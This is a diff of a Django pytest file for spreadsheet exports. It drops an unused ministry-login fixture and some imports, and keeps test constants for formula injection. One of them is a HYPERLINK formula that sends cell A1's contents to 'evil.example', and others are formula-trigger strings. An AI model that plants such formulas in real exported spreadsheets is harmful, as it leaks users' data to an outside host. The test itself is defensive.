@@ -4,25 +4,15 @@ import csv
 import io
 
 import pytest
-from django.contrib.auth.models import Group
 from openpyxl import load_workbook
 
 from qogam import spreadsheets
-from qogam.roles import MINISTRY_GROUP
-from tests.factories import CouncilFactory, RegionFactory, UserFactory
+from tests.factories import CouncilFactory, RegionFactory
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
 HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
-
-
-@pytest.fixture
-def ministry(client):
-    user = UserFactory(is_staff=True)
-    user.groups.add(Group.objects.get(name=MINISTRY_GROUP))
-    client.force_login(user)
-    return client
 
 
 @pytest.fixture
